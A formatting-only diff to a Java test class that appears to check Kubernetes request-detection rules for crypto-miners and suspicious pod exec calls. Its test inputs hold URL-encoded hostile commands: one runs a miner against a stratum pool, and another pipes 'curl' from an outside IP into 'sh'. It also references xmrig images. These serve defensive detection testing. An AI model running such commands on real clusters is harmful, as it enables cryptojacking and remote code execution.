@@ -152,10 +152,14 @@ class RequestRulesTest {
   @Test
   void findsAMinerInTheCommandOfAnExecWhicheverVerbAsksForIt() {
     for (String verb : List.of("create", "get")) {
-      assertThat(exec(verb, "command=.%2Fsysd&command=-o&command=stratum%2Btcp%3A%2F%2Fx.example%3A3333"))
+      assertThat(
+              exec(
+                  verb,
+                  "command=.%2Fsysd&command=-o&command=stratum%2Btcp%3A%2F%2Fx.example%3A3333"))
           .containsExactly("K8S-16 46.0");
     }
-    assertThat(exec("get", "command=sh&command=-c&command=curl+-s+http%3A%2F%2F192.0.2.9%2Fa+%7C+sh"))
+    assertThat(
+            exec("get", "command=sh&command=-c&command=curl+-s+http%3A%2F%2F192.0.2.9%2Fa+%7C+sh"))
         .containsExactly("K8S-16 20.0");
     assertThat(exec("create", "command=sh&stdin=true&tty=true")).containsExactly("K8S-16 4.0");
     assertThat(subject(request("get", "pods", "web-1").setSubresource("exec")))
@@ -201,7 +205,9 @@ class RequestRulesTest {
 
   @Test
   void takesAnImageInTheArgumentsOfAScannerForAMention() {
-    assertThat(deployed(running("docker.io/aquasec/trivy:1", "trivy", "image", "docker.io/xmrig/xmrig:6")))
+    assertThat(
+            deployed(
+                running("docker.io/aquasec/trivy:1", "trivy", "image", "docker.io/xmrig/xmrig:6")))
         .isEmpty();
     assertThat(deployed(running(NGINX, "run", "xmrig/xmrig:6"))).isEmpty();
     assertThat(deployed(running(NGINX, "/start.sh", "/opt/xmrig"))).containsExactly("K8S-07 46.0");
